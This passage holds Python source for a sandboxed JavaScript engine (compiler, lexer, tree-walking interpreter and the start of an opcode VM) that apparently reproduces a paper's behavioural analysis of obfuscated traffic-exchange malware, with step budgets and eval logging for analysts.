                folded = self.compiler.fold(arguments[index])
                if folded is None or not _is_primitive(folded.value):
                    break
                run_values.append(folded.value)
                run_ticks += folded.ticks
                index += 1
            if run_values:
                self.tick(run_ticks)
                if len(run_values) == 1:
                    self.emit(LOAD_CONST, run_values[0])
                else:
                    self.emit(PUSH_CONSTS, tuple(run_values))
            if index < count:
                self.expr(arguments[index])
                index += 1
        callee = node.callee
        if isinstance(callee, N.Member):
            # the Member node itself is never ticked by the walker here
            self.expr(callee.obj)
            if callee.computed:
                self.expr(callee.prop)
                self.emit(CALL_METHOD_DYN, count)
            else:
                self.emit(CALL_METHOD, (callee.prop.value, count))  # type: ignore[union-attr]
            return
        self.expr(callee)
        self.emit(CALL, count)


class _Compiler:
    """One compilation: shared fold cache + function-template factory."""

    def __init__(self, max_string_length: int) -> None:
        self.max_string_length = max_string_length
        self._fold_cache: dict = {}
        self._template_cache: dict = {}

    # -- constant folding --------------------------------------------------
    def fold(self, node: N.Node) -> Optional[_Folded]:
        key = id(node)
        if key in self._fold_cache:
            return self._fold_cache[key]
        result = self._fold(node)
        self._fold_cache[key] = result
        return result

    def _fold(self, node: N.Node) -> Optional[_Folded]:
        kind = type(node)
        if kind in (N.NumberLiteral, N.StringLiteral, N.BooleanLiteral):
            return _Folded(node.value, 1)
        if kind is N.NullLiteral:
            return _Folded(None, 1)
        if kind is N.UndefinedLiteral:
            return _Folded(UNDEFINED, 1)
        if kind is N.Unary:
            operator = node.operator
            if operator == "delete":
                # `delete non-member` returns True without evaluating
                if not isinstance(node.argument, N.Member):
                    return _Folded(True, 1)
                return None
            if operator == "typeof" and isinstance(node.argument, N.Identifier):
                return None  # environment-dependent
            sub = self.fold(node.argument)
            if sub is None:
                return None
            value, ticks = sub.value, sub.ticks + 1
            if operator == "!":
                return _Folded(not to_boolean(value), ticks)
            if operator == "-":
                return _Folded(-to_number(value), ticks)
            if operator == "+":
                return _Folded(to_number(value), ticks)
            if operator == "~":
                return _Folded(float(~_to_int32(to_number(value))), ticks)
            if operator == "void":
                return _Folded(UNDEFINED, ticks)
            if operator == "typeof":
                return _Folded(type_of(value), ticks)
            return None
        if kind is N.Binary:
            left = self.fold(node.left)
            if left is None:
                return None
            right = self.fold(node.right)
            if right is None:
                return None
            try:
                value = evaluate_binary(node.operator, left.value, right.value,
                                        self.max_string_length)
            except (JSException, BudgetExceeded):
                return None  # let the runtime raise it, in evaluation order
            return _Folded(value, left.ticks + right.ticks + 1)
        if kind is N.Logical:
            left = self.fold(node.left)
            if left is None:
                return None
            takes_right = (to_boolean(left.value) if node.operator == "&&"
                           else not to_boolean(left.value))
            if not takes_right:
                return _Folded(left.value, left.ticks + 1)
            right = self.fold(node.right)
            if right is None:
                return None
            return _Folded(right.value, left.ticks + right.ticks + 1)
        if kind is N.Conditional:
            test = self.fold(node.test)
            if test is None:
                return None
            branch = node.consequent if to_boolean(test.value) else node.alternate
            taken = self.fold(branch)
            if taken is None:
                return None
            return _Folded(taken.value, test.ticks + taken.ticks + 1)
        if kind is N.Sequence:
            ticks = 1
            value: Any = UNDEFINED
            for expression in node.expressions:
                sub = self.fold(expression)
                if sub is None:
                    return None
                value = sub.value
                ticks += sub.ticks
            return _Folded(value, ticks)
        return None

    # -- function compilation ----------------------------------------------
    def function_template(self, name: Optional[str], params: List[str],
                          body: List[N.Node]) -> FunctionTemplate:
        # one template per AST function: the hoist prologue and the
        # FunctionDecl statement share it (each *execution* still makes
        # a fresh closure, matching the walker)
        key = id(body)
        template = self._template_cache.get(key)
        if template is None:
            builder = _CodeBuilder(self, name or "<anonymous>")
            emit_hoist(builder, body)
            builder.stmt_list(body)
            template = FunctionTemplate(name, params, body, builder.finish())
            self._template_cache[key] = template
        return template


def _hoist_items(compiler: _Compiler, body: List[N.Node],
                 out: List[Tuple[str, Any]]) -> None:
    """Mirror of Interpreter._hoist, producing HOIST payload items.

    Function declarations bind immediately; var names bind to UNDEFINED
    only if not already bound *at runtime* (host globals live in the
    same env), so vars stay conditional in the payload.
    """
    for statement in body:
        if isinstance(statement, N.FunctionDecl):
            out.append(("f", compiler.function_template(
                statement.name, statement.params, statement.body)))
        elif isinstance(statement, N.VarDecl):
            for name, _init in statement.declarations:
                out.append(("v", name))
        elif isinstance(statement, (N.If, N.While, N.DoWhile, N.For, N.ForIn,
                                    N.Block, N.Try)):
            _hoist_items(compiler, _nested_bodies(statement), out)


def _nested_bodies(statement: N.Node) -> List[N.Node]:
    # verbatim mirror of Interpreter._nested_bodies
    out: List[N.Node] = []
    if isinstance(statement, N.Block):
        out.extend(statement.body)
    elif isinstance(statement, N.If):
        for branch in (statement.consequent, statement.alternate):
            if isinstance(branch, N.Block):
                out.extend(branch.body)
            elif branch is not None:
                out.append(branch)
    elif isinstance(statement, (N.While, N.DoWhile, N.For, N.ForIn)):
        body = statement.body
        if isinstance(body, N.Block):
            out.extend(body.body)
        else:
            out.append(body)
    elif isinstance(statement, N.Try):
        for block in (statement.block, statement.catch_block, statement.finally_block):
            if isinstance(block, N.Block):
                out.extend(block.body)
    return out


def emit_hoist(builder: _CodeBuilder, body: List[N.Node]) -> None:
    items: List[Tuple[str, Any]] = []
    _hoist_items(builder.compiler, body, items)
    if items:
        builder.emit(HOIST, tuple(items))


def compile_program(program: N.Program, max_string_length: int) -> Code:
    """Compile a parsed program (top-level script or eval body)."""
    compiler = _Compiler(max_string_length)
    builder = _CodeBuilder(compiler, "<program>")
    emit_hoist(builder, program.body)
    builder.stmt_list(program.body)
    return builder.finish()


def compile_function_body(params: List[str], body: List[N.Node],
                          max_string_length: int) -> Code:
    """Compile a bare function body (fallback for foreign JSFunctions)."""
    return _Compiler(max_string_length).function_template(None, params, body).code
