"""JavaScript lexer.

Tokenizes the JavaScript subset that in-the-wild malware on traffic
exchanges uses (Section IV-A1, V): string/number literals with the full
escape repertoire obfuscators rely on (``\\xNN``, ``\\uNNNN``, octal),
identifiers, keywords, comments, and the operator set of ES5 minus
regular-expression literals (none of the analyzed samples need them —
a ``/`` is always division here).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

__all__ = ["Token", "LexError", "tokenize", "KEYWORDS"]

KEYWORDS = {
    "var", "function", "return", "if", "else", "while", "for", "do",
    "break", "continue", "new", "delete", "typeof", "instanceof", "in",
    "this", "null", "true", "false", "undefined", "try", "catch",
    "finally", "throw", "switch", "case", "default", "void",
}

# Longest-match-first operator table.
_PUNCTUATORS = [
    ">>>=", "===", "!==", ">>>", "<<=", ">>=", "**",
    "==", "!=", "<=", ">=", "&&", "||", "++", "--",
    "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<", ">>",
    "{", "}", "(", ")", "[", "]", ";", ",", "<", ">", "+", "-", "*",
    "/", "%", "&", "|", "^", "!", "~", "?", ":", "=", ".",
]


class LexError(ValueError):
    """Raised on input the lexer cannot tokenize."""

    def __init__(self, message: str, position: int) -> None:
        super().__init__("%s at offset %d" % (message, position))
        self.position = position


@dataclass(frozen=True)
class Token:
    """A lexical token: kind is one of number/string/identifier/keyword/punct/eof."""

    kind: str
    value: str
    position: int
    number: float = 0.0

    def is_punct(self, *values: str) -> bool:
        return self.kind == "punct" and self.value in values

    def is_keyword(self, *values: str) -> bool:
        return self.kind == "keyword" and self.value in values


def tokenize(source: str) -> List[Token]:
    """Tokenize ``source``; returns tokens ending with an ``eof`` token."""
    tokens: List[Token] = []
    i = 0
    n = len(source)

    while i < n:
        ch = source[i]
        if ch in " \t\r\n\f\v":
            i += 1
            continue
        if source.startswith("//", i):
            end = source.find("\n", i)
            i = n if end == -1 else end + 1
            continue
        if source.startswith("/*", i):
            end = source.find("*/", i + 2)
            if end == -1:
                raise LexError("unterminated comment", i)
            i = end + 2
            continue
        if ch in "\"'":
            value, i2 = _scan_string(source, i)
            tokens.append(Token("string", value, i))
            i = i2
            continue
        if ch.isdigit() or (ch == "." and i + 1 < n and source[i + 1].isdigit()):
            number, i2 = _scan_number(source, i)
            tokens.append(Token("number", source[i:i2], i, number=number))
            i = i2
            continue
        if ch.isalpha() or ch in "_$":
            start = i
            while i < n and (source[i].isalnum() or source[i] in "_$"):
                i += 1
            word = source[start:i]
            kind = "keyword" if word in KEYWORDS else "identifier"
            tokens.append(Token(kind, word, start))
            continue
        for punct in _PUNCTUATORS:
            if source.startswith(punct, i):
                tokens.append(Token("punct", punct, i))
                i += len(punct)
                break
        else:
            raise LexError("unexpected character %r" % ch, i)

    tokens.append(Token("eof", "", n))
    return tokens


def _scan_string(source: str, start: int) -> tuple:
    quote = source[start]
    out: List[str] = []
    i = start + 1
    n = len(source)
    while i < n:
        ch = source[i]
        if ch == quote:
            return "".join(out), i + 1
        if ch == "\n":
            raise LexError("unterminated string", start)
        if ch != "\\":
            out.append(ch)
            i += 1
            continue
        if i + 1 >= n:
            raise LexError("unterminated escape", i)
        esc = source[i + 1]
        i += 2
        if esc == "n":
            out.append("\n")
        elif esc == "t":
            out.append("\t")
        elif esc == "r":
            out.append("\r")
        elif esc == "b":
            out.append("\b")
        elif esc == "f":
            out.append("\f")
        elif esc == "v":
            out.append("\v")
        elif esc == "0" and (i >= n or not source[i].isdigit()):
            out.append("\0")
        elif esc == "x":
            if i + 2 > n:
                raise LexError("bad \\x escape", i)
            out.append(chr(int(source[i : i + 2], 16)))
            i += 2
        elif esc == "u":
            if i + 4 > n:
                raise LexError("bad \\u escape", i)
            out.append(chr(int(source[i : i + 4], 16)))
            i += 4
        elif esc == "\n":
            pass  # line continuation
        else:
            out.append(esc)
    raise LexError("unterminated string", start)


def _scan_number(source: str, start: int) -> tuple:
    i = start
    n = len(source)
    if source.startswith(("0x", "0X"), i):
        i += 2
        digits_start = i
        while i < n and source[i] in "0123456789abcdefABCDEF":
            i += 1
        if i == digits_start:
            raise LexError("bad hex literal", start)
        return float(int(source[digits_start:i], 16)), i
    while i < n and source[i].isdigit():
        i += 1
    if i < n and source[i] == ".":
        i += 1
        while i < n and source[i].isdigit():
            i += 1
    if i < n and source[i] in "eE":
        j = i + 1
        if j < n and source[j] in "+-":
            j += 1
        if j < n and source[j].isdigit():
            i = j
            while i < n and source[i].isdigit():
                i += 1
    return float(source[start:i]), i
