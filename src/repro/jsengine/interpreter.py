"""Tree-walking JavaScript interpreter.

Executes the AST from :mod:`repro.jsengine.parser` against a host
environment.  The paper executed obfuscated samples "in a virtual
machine environment for behavioral analysis" (Section IV-A1); this
interpreter is that virtual machine: side effects flow through host
objects (see :mod:`repro.jsengine.hostenv`) which record behaviour.

Safety properties:

* a configurable **step budget** bounds runaway or adversarial loops,
* no host filesystem/network access exists unless a host object grants it,
* thrown JS values never escape as Python exceptions other than
  :class:`~repro.jsengine.values.JSException`.
"""

from __future__ import annotations

import math
import random
from typing import Any, Dict, List, Optional

from . import nodes as N
from .builtins import get_member, make_global_builtins
from .parser import parse
from .values import (
    UNDEFINED,
    JSArray,
    JSException,
    JSFunction,
    JSObject,
    NativeFunction,
    loose_equals,
    strict_equals,
    to_boolean,
    to_number,
    to_string,
    type_of,
)

__all__ = ["Interpreter", "BudgetExceeded", "Environment", "evaluate_binary"]


class BudgetExceeded(RuntimeError):
    """The script exceeded its execution step budget."""


class _Break(Exception):
    pass


class _Continue(Exception):
    pass


class _Return(Exception):
    def __init__(self, value: Any) -> None:
        super().__init__()
        self.value = value


class Environment:
    """A lexical scope."""

    __slots__ = ("vars", "parent")

    def __init__(self, parent: Optional["Environment"] = None) -> None:
        self.vars: Dict[str, Any] = {}
        self.parent = parent

    def lookup(self, name: str) -> Any:
        env: Optional[Environment] = self
        while env is not None:
            if name in env.vars:
                return env.vars[name]
            env = env.parent
        raise JSException("ReferenceError: %s is not defined" % name)

    def has(self, name: str) -> bool:
        env: Optional[Environment] = self
        while env is not None:
            if name in env.vars:
                return True
            env = env.parent
        return False

    def assign(self, name: str, value: Any) -> None:
        env: Optional[Environment] = self
        while env is not None:
            if name in env.vars:
                env.vars[name] = value
                return
            env = env.parent
        # implicit global, like sloppy-mode JS
        root = self
        while root.parent is not None:
            root = root.parent
        root.vars[name] = value

    def declare(self, name: str, value: Any = UNDEFINED) -> None:
        self.vars[name] = value


class Interpreter:
    """Evaluates parsed programs.

    Parameters
    ----------
    host_globals:
        Extra global bindings (the browser host environment installs
        ``window``, ``document``, etc. here).
    step_budget:
        Maximum number of AST-node evaluations before
        :class:`BudgetExceeded` is raised.
    rng:
        Source of randomness for ``Math.random`` (seeded for
        reproducibility).
    """

    #: strings longer than this abort the script (memory-bomb guard; real
    #: sandboxes enforce allocation limits the same way)
    MAX_STRING_LENGTH = 2_000_000

    #: execution-backend identity (the bytecode VM reports "vm"); see
    #: :func:`repro.jsengine.vm.resolve_js_backend`
    backend = "ast"

    def __init__(
        self,
        host_globals: Optional[Dict[str, Any]] = None,
        step_budget: int = 500_000,
        rng: Optional[random.Random] = None,
        observer: Optional[Any] = None,
        compile_cache: Optional[Any] = None,
    ) -> None:
        self.rng = rng or random.Random(0)
        self.step_budget = step_budget
        #: optional :class:`repro.jsengine.compilecache.CompileCache`;
        #: when set, :meth:`run` and ``eval()`` compile through it
        self.compile_cache = compile_cache
        self.steps = 0
        #: steps already attributed to earlier run_program calls — one
        #: Interpreter runs every script on a page, so per-script
        #: accounting must report deltas, not the cumulative total
        self._steps_reported = 0
        #: optional :class:`repro.obs.RunObserver`: op-count and
        #: eval-nesting gauges for sandbox telemetry (None = no-op)
        self.observer = observer
        #: current and deepest observed eval() nesting (layered
        #: obfuscators eval inside eval; depth is the layer count)
        self.eval_depth = 0
        self.max_eval_depth = 0
        self.global_env = Environment()
        for name, value in make_global_builtins(self).items():
            self.global_env.declare(name, value)
        self.global_env.declare("eval", NativeFunction("eval", self._eval_builtin))
        self.eval_log: List[str] = []  # sources passed to eval(), for analysts
        if host_globals:
            for name, value in host_globals.items():
                self.global_env.declare(name, value)

    # ------------------------------------------------------------------
    # Entry points
    # ------------------------------------------------------------------
    def run(self, source: str) -> Any:
        """Parse and execute ``source`` in the global scope."""
        return self.run_program(self._compile(source))

    def _compile(self, source: str) -> N.Program:
        """Compile once per distinct source when a cache is attached."""
        if self.compile_cache is not None:
            return self.compile_cache.compile(source, observer=self.observer)
        return parse(source, observer=self.observer)

    def run_program(self, program: N.Program) -> Any:
        self._hoist(program.body, self.global_env)
        result: Any = UNDEFINED
        try:
            for statement in program.body:
                result = self._exec(statement, self.global_env)
        finally:
            self._report_gauges()
        return result

    def _report_gauges(self) -> None:
        if self.observer is not None:
            script_steps = self.steps - self._steps_reported
            self._steps_reported = self.steps
            self.observer.gauge_max("js.op_count", self.steps)
            self.observer.gauge_max("js.eval_depth", self.max_eval_depth)
            self.observer.count("js.scripts_executed")
            # the per-script step *distribution* (the gauge above only
            # keeps the max), and the same delta as profiler work units
            self.observer.observe("js.op_count", script_steps)
            self.observer.work("js.interp.steps", script_steps)

    def call_function(self, fn: Any, args: List[Any], this: Any = UNDEFINED) -> Any:
        """Invoke a JS or native function from host code."""
        if isinstance(fn, NativeFunction):
            return fn(*args)
        if callable(fn) and not isinstance(fn, JSFunction):
            return fn(*args)
        if isinstance(fn, JSFunction):
            env = Environment(fn.env)
            for index, param in enumerate(fn.params):
                env.declare(param, args[index] if index < len(args) else UNDEFINED)
            env.declare("arguments", JSArray(list(args)))
            env.declare("this", this)
            self._hoist(fn.body, env)
            try:
                for statement in fn.body:
                    self._exec(statement, env)
            except _Return as ret:
                return ret.value
            return UNDEFINED
        raise JSException("TypeError: %s is not a function" % to_string(fn))

    # ------------------------------------------------------------------
    # Internals
    # ------------------------------------------------------------------
    def _tick(self) -> None:
        self.steps += 1
        if self.steps > self.step_budget:
            raise BudgetExceeded("step budget of %d exceeded" % self.step_budget)

    def _eval_builtin(self, source: Any = UNDEFINED) -> Any:
        """The ``eval`` global: executes in the global scope and logs the
        source — layered obfuscators call this repeatedly, and each layer
        is captured for the analyst (Section V-D "de-obfuscating the file
        in bits and pieces")."""
        if not isinstance(source, str):
            return source
        self.eval_log.append(source)
        program = self._compile(source)
        self._hoist(program.body, self.global_env)
        result: Any = UNDEFINED
        self.eval_depth += 1
        if self.eval_depth > self.max_eval_depth:
            self.max_eval_depth = self.eval_depth
        try:
            for statement in program.body:
                result = self._exec(statement, self.global_env)
        finally:
            self.eval_depth -= 1
        return result

    def _hoist(self, body: List[N.Node], env: Environment) -> None:
        """Hoist function declarations and var names (to UNDEFINED)."""
        for statement in body:
            if isinstance(statement, N.FunctionDecl):
                env.declare(statement.name, JSFunction(statement.name, statement.params, statement.body, env))
            elif isinstance(statement, N.VarDecl):
                for name, _init in statement.declarations:
                    if name not in env.vars:
                        env.declare(name)
            elif isinstance(statement, (N.If, N.While, N.DoWhile, N.For, N.ForIn, N.Block, N.Try)):
                self._hoist(self._nested_bodies(statement), env)

    def _nested_bodies(self, statement: N.Node) -> List[N.Node]:
        out: List[N.Node] = []
        if isinstance(statement, N.Block):
            out.extend(statement.body)
        elif isinstance(statement, N.If):
            for branch in (statement.consequent, statement.alternate):
                if isinstance(branch, N.Block):
                    out.extend(branch.body)
                elif branch is not None:
                    out.append(branch)
        elif isinstance(statement, (N.While, N.DoWhile, N.For, N.ForIn)):
            body = statement.body
            if isinstance(body, N.Block):
                out.extend(body.body)
            else:
                out.append(body)
        elif isinstance(statement, N.Try):
            for block in (statement.block, statement.catch_block, statement.finally_block):
                if isinstance(block, N.Block):
                    out.extend(block.body)
        return out

    # -- statements -------------------------------------------------------
    def _exec(self, node: N.Node, env: Environment) -> Any:
        self._tick()
        kind = type(node)
        if kind is N.ExpressionStatement:
            return self._eval(node.expression, env)
        if kind is N.VarDecl:
            for name, init in node.declarations:
                value = self._eval(init, env) if init is not None else UNDEFINED
                env.declare(name, value) if not env.has(name) else env.assign(name, value)
            return UNDEFINED
        if kind is N.FunctionDecl:
            env.declare(node.name, JSFunction(node.name, node.params, node.body, env))
            return UNDEFINED
        if kind is N.Block:
            result: Any = UNDEFINED
            for statement in node.body:
                result = self._exec(statement, env)
            return result
        if kind is N.If:
            if to_boolean(self._eval(node.test, env)):
                return self._exec(node.consequent, env)
            if node.alternate is not None:
                return self._exec(node.alternate, env)
            return UNDEFINED
        if kind is N.While:
            while to_boolean(self._eval(node.test, env)):
                self._tick()
                try:
                    self._exec(node.body, env)
                except _Break:
                    break
                except _Continue:
                    continue
            return UNDEFINED
        if kind is N.DoWhile:
            while True:
                self._tick()
                try:
                    self._exec(node.body, env)
                except _Break:
                    break
                except _Continue:
                    pass
                if not to_boolean(self._eval(node.test, env)):
                    break
            return UNDEFINED
        if kind is N.For:
            if node.init is not None:
                self._exec(node.init, env) if isinstance(node.init, (N.VarDecl, N.ExpressionStatement)) else self._eval(node.init, env)
            while node.test is None or to_boolean(self._eval(node.test, env)):
                self._tick()
                try:
                    self._exec(node.body, env)
                except _Break:
                    break
                except _Continue:
                    pass
                if node.update is not None:
                    self._eval(node.update, env)
            else:
                return UNDEFINED
            return UNDEFINED
        if kind is N.ForIn:
            obj = self._eval(node.obj, env)
            keys: List[str] = []
            if isinstance(obj, JSArray):
                keys = [str(i) for i in range(len(obj.elements))]
            elif isinstance(obj, JSObject):
                keys = obj.keys()
            elif hasattr(obj, "js_keys"):
                keys = list(obj.js_keys())
            if node.declare and not env.has(node.target):
                env.declare(node.target)
            for key in keys:
                env.assign(node.target, key)
                self._tick()
                try:
                    self._exec(node.body, env)
                except _Break:
                    break
                except _Continue:
                    continue
            return UNDEFINED
        if kind is N.Return:
            value = self._eval(node.argument, env) if node.argument is not None else UNDEFINED
            raise _Return(value)
        if kind is N.Break:
            raise _Break()
        if kind is N.Continue:
            raise _Continue()
        if kind is N.Throw:
            raise JSException(self._eval(node.argument, env))
        if kind is N.Try:
            try:
                self._exec(node.block, env)
            except JSException as exc:
                if node.catch_block is not None:
                    catch_env = Environment(env)
                    catch_env.declare(node.catch_param or "e", exc.value)
                    self._exec(node.catch_block, catch_env)
            finally:
                if node.finally_block is not None:
                    self._exec(node.finally_block, env)
            return UNDEFINED
        if kind is N.Switch:
            discriminant = self._eval(node.discriminant, env)
            matched = False
            try:
                for case in node.cases:
                    if not matched and case.test is not None:
                        if strict_equals(discriminant, self._eval(case.test, env)):
                            matched = True
                    if matched:
                        for statement in case.body:
                            self._exec(statement, env)
                if not matched:
                    # run default (and fall through) if present
                    default_seen = False
                    for case in node.cases:
                        if case.test is None:
                            default_seen = True
                        if default_seen:
                            for statement in case.body:
                                self._exec(statement, env)
            except _Break:
                pass
            return UNDEFINED
        if kind is N.EmptyStatement:
            return UNDEFINED
        # expression node used in statement position (e.g. for-init)
        return self._eval(node, env)

    # -- expressions --------------------------------------------------------
    def _eval(self, node: N.Node, env: Environment) -> Any:
        self._tick()
        kind = type(node)
        if kind is N.NumberLiteral:
            return node.value
        if kind is N.StringLiteral:
            return node.value
        if kind is N.BooleanLiteral:
            return node.value
        if kind is N.NullLiteral:
            return None
        if kind is N.UndefinedLiteral:
            return UNDEFINED
        if kind is N.Identifier:
            return env.lookup(node.name)
        if kind is N.ThisExpr:
            if env.has("this"):
                return env.lookup("this")
            return UNDEFINED
        if kind is N.ArrayLiteral:
            return JSArray([self._eval(el, env) for el in node.elements])
        if kind is N.ObjectLiteral:
            obj = JSObject()
            for key, value_node in node.properties:
                obj.js_set(to_string(key), self._eval(value_node, env))
            return obj
        if kind is N.FunctionExpr:
            fn = JSFunction(node.name, node.params, node.body, env)
            if node.name:
                fn_env = Environment(env)
                fn_env.declare(node.name, fn)
                fn.env = fn_env
            return fn
        if kind is N.Unary:
            return self._eval_unary(node, env)
        if kind is N.Update:
            return self._eval_update(node, env)
        if kind is N.Binary:
            return self._eval_binary(node.operator, self._eval(node.left, env), self._eval(node.right, env))
        if kind is N.Logical:
            left = self._eval(node.left, env)
            if node.operator == "&&":
                return self._eval(node.right, env) if to_boolean(left) else left
            return left if to_boolean(left) else self._eval(node.right, env)
        if kind is N.Conditional:
            if to_boolean(self._eval(node.test, env)):
                return self._eval(node.consequent, env)
            return self._eval(node.alternate, env)
        if kind is N.Assignment:
            return self._eval_assignment(node, env)
        if kind is N.Call:
            return self._eval_call(node, env)
        if kind is N.New:
            return self._eval_new(node, env)
        if kind is N.Member:
            obj = self._eval(node.obj, env)
            prop = to_string(self._eval(node.prop, env)) if node.computed else node.prop.value  # type: ignore[union-attr]
            return get_member(self, obj, prop)
        if kind is N.Sequence:
            result: Any = UNDEFINED
            for expression in node.expressions:
                result = self._eval(expression, env)
            return result
        raise JSException("unsupported node %s" % kind.__name__)

    def _eval_unary(self, node: N.Unary, env: Environment) -> Any:
        operator = node.operator
        if operator == "typeof":
            if isinstance(node.argument, N.Identifier) and not env.has(node.argument.name):
                return "undefined"
            return type_of(self._eval(node.argument, env))
        if operator == "delete":
            if isinstance(node.argument, N.Member):
                obj = self._eval(node.argument.obj, env)
                prop = (
                    to_string(self._eval(node.argument.prop, env))
                    if node.argument.computed
                    else node.argument.prop.value  # type: ignore[union-attr]
                )
                if isinstance(obj, JSObject):
                    obj.js_delete(prop)
                return True
            return True
        value = self._eval(node.argument, env)
        if operator == "!":
            return not to_boolean(value)
        if operator == "-":
            return -to_number(value)
        if operator == "+":
            return to_number(value)
        if operator == "~":
            return float(~_to_int32(to_number(value)))
        if operator == "void":
            return UNDEFINED
        raise JSException("unsupported unary %s" % operator)

    def _eval_update(self, node: N.Update, env: Environment) -> Any:
        old = to_number(self._read_target(node.argument, env))
        new = old + 1 if node.operator == "++" else old - 1
        self._write_target(node.argument, new, env)
        return new if node.prefix else old

    def _read_target(self, target: N.Node, env: Environment) -> Any:
        if isinstance(target, N.Identifier):
            return env.lookup(target.name) if env.has(target.name) else UNDEFINED
        if isinstance(target, N.Member):
            obj = self._eval(target.obj, env)
            prop = to_string(self._eval(target.prop, env)) if target.computed else target.prop.value  # type: ignore[union-attr]
            return get_member(self, obj, prop)
        raise JSException("invalid update target")

    def _write_target(self, target: N.Node, value: Any, env: Environment) -> None:
        if isinstance(target, N.Identifier):
            env.assign(target.name, value)
            return
        if isinstance(target, N.Member):
            obj = self._eval(target.obj, env)
            prop = to_string(self._eval(target.prop, env)) if target.computed else target.prop.value  # type: ignore[union-attr]
            if hasattr(obj, "js_set"):
                obj.js_set(prop, value)
            return
        raise JSException("invalid assignment target")

    def _eval_assignment(self, node: N.Assignment, env: Environment) -> Any:
        if node.operator == "=":
            value = self._eval(node.value, env)
        else:
            current = self._read_target(node.target, env)
            operand = self._eval(node.value, env)
            value = self._eval_binary(node.operator[:-1], current, operand)
        self._write_target(node.target, value, env)
        return value

    def _eval_binary(self, operator: str, left: Any, right: Any) -> Any:
        return evaluate_binary(operator, left, right, self.MAX_STRING_LENGTH)

    def _eval_call(self, node: N.Call, env: Environment) -> Any:
        args = [self._eval(arg, env) for arg in node.arguments]
        if isinstance(node.callee, N.Member):
            obj = self._eval(node.callee.obj, env)
            prop = (
                to_string(self._eval(node.callee.prop, env))
                if node.callee.computed
                else node.callee.prop.value  # type: ignore[union-attr]
            )
            fn = get_member(self, obj, prop)
            return self.call_function(fn, args, this=obj)
        fn = self._eval(node.callee, env)
        return self.call_function(fn, args, this=UNDEFINED)

    def _eval_new(self, node: N.New, env: Environment) -> Any:
        callee = self._eval(node.callee, env)
        args = [self._eval(arg, env) for arg in node.arguments]
        if isinstance(callee, NativeFunction) or (callable(callee) and not isinstance(callee, JSFunction)):
            return callee(*args)
        if isinstance(callee, JSFunction):
            instance = JSObject()
            result = self.call_function(callee, args, this=instance)
            return result if isinstance(result, (JSObject, JSArray)) else instance
        raise JSException("TypeError: %s is not a constructor" % to_string(callee))


def evaluate_binary(operator: str, left: Any, right: Any, max_string_length: int) -> Any:
    """Binary-operator semantics shared by both execution backends.

    This is the single source of truth: the tree-walking
    :class:`Interpreter`, the opcode VM's ``BINOP`` handler, and the
    bytecode compiler's constant folder all call it, so a folded constant
    can never diverge from what runtime evaluation would have produced.
    """
    if operator == "+":
        if isinstance(left, str) or isinstance(right, str) or isinstance(left, (JSObject, JSArray)) or isinstance(right, (JSObject, JSArray)):
            joined = to_string(left) + to_string(right)
            if len(joined) > max_string_length:
                raise BudgetExceeded(
                    "string allocation limit (%d chars) exceeded" % max_string_length
                )
            return joined
        return to_number(left) + to_number(right)
    if operator == "-":
        return to_number(left) - to_number(right)
    if operator == "*":
        return to_number(left) * to_number(right)
    if operator == "/":
        rnum = to_number(right)
        lnum = to_number(left)
        if rnum == 0:
            if lnum == 0 or math.isnan(lnum):
                return float("nan")
            return math.copysign(float("inf"), lnum) * (1 if rnum == 0 and not str(rnum).startswith("-") else 1)
        return lnum / rnum
    if operator == "%":
        rnum = to_number(right)
        lnum = to_number(left)
        if rnum == 0 or math.isnan(lnum) or math.isinf(lnum):
            return float("nan")
        return math.fmod(lnum, rnum)
    if operator == "==":
        return loose_equals(left, right)
    if operator == "!=":
        return not loose_equals(left, right)
    if operator == "===":
        return strict_equals(left, right)
    if operator == "!==":
        return not strict_equals(left, right)
    if operator in ("<", ">", "<=", ">="):
        if isinstance(left, str) and isinstance(right, str):
            lval, rval = left, right
        else:
            lval, rval = to_number(left), to_number(right)
            if math.isnan(lval) or math.isnan(rval):
                return False
        if operator == "<":
            return lval < rval
        if operator == ">":
            return lval > rval
        if operator == "<=":
            return lval <= rval
        return lval >= rval
    if operator == "&":
        return float(_to_int32(to_number(left)) & _to_int32(to_number(right)))
    if operator == "|":
        return float(_to_int32(to_number(left)) | _to_int32(to_number(right)))
    if operator == "^":
        return float(_to_int32(to_number(left)) ^ _to_int32(to_number(right)))
    if operator == "<<":
        return float(_wrap_int32(_to_int32(to_number(left)) << (_to_int32(to_number(right)) & 31)))
    if operator == ">>":
        return float(_to_int32(to_number(left)) >> (_to_int32(to_number(right)) & 31))
    if operator == ">>>":
        return float((_to_int32(to_number(left)) & 0xFFFFFFFF) >> (_to_int32(to_number(right)) & 31))
    if operator == "instanceof":
        return isinstance(left, (JSObject, JSFunction))
    if operator == "in":
        if isinstance(right, JSObject):
            return right.js_has(to_string(left))
        return False
    raise JSException("unsupported operator %s" % operator)


def _to_int32(value: float) -> int:
    if math.isnan(value) or math.isinf(value):
        return 0
    return _wrap_int32(int(value))


def _wrap_int32(value: int) -> int:
    value &= 0xFFFFFFFF
    if value >= 0x80000000:
        value -= 0x100000000
    return value
