"""Opcode virtual machine: the JS sandbox's dispatch-loop backend (PR 9).

Executes :class:`~repro.jsengine.compiler.Code` produced by
:mod:`repro.jsengine.compiler`, exposing the exact public surface of the
tree-walking :class:`~repro.jsengine.interpreter.Interpreter` (``run``,
``call_function``, ``steps``, ``eval_log``, ``global_env``, …) so the
browser host environment and builtins work against either backend
polymorphically.

Equivalence contract (checked continuously by
``tests/test_vm_differential.py`` and ``tools/check_vm_speedup.py``):

* **values** — every program returns the same result as the walker,
* **host effects** — navigations, writes, cookies, listener
  registrations, popups, and DOM mutations occur in the same order,
* **errors** — the same exception classes with the same messages, at
  the same point in effect order,
* **step accounting** — ``self.steps`` is bit-identical to the walker
  at every observable boundary: each instruction charges its fused tick
  *weight* before executing, and budget overflow reproduces the
  walker's tick-at-a-time post-raise value,
* **telemetry** — identical ``js.op_count``/``js.eval_depth`` gauges,
  ``js.interp.steps`` work deltas and ``js.scripts_executed`` counts;
  the VM's own dispatch count is reported only as the ``js.vm.ops``
  work kind (never as a metrics counter, so unprofiled obs reports stay
  bit-identical across backends).

Loops, ``try`` and ``switch`` execute as block opcodes whose handlers
mirror the walker's Python control flow and reuse its ``_Break`` /
``_Continue`` / ``_Return`` signal classes — break/continue/return
through ``finally`` behave identically by construction, and escaping
signals keep the same class names in host error logs.
"""

from __future__ import annotations

import os
import random
from typing import Any, Dict, List, Optional

from . import compiler as C
from .builtins import get_member, make_global_builtins
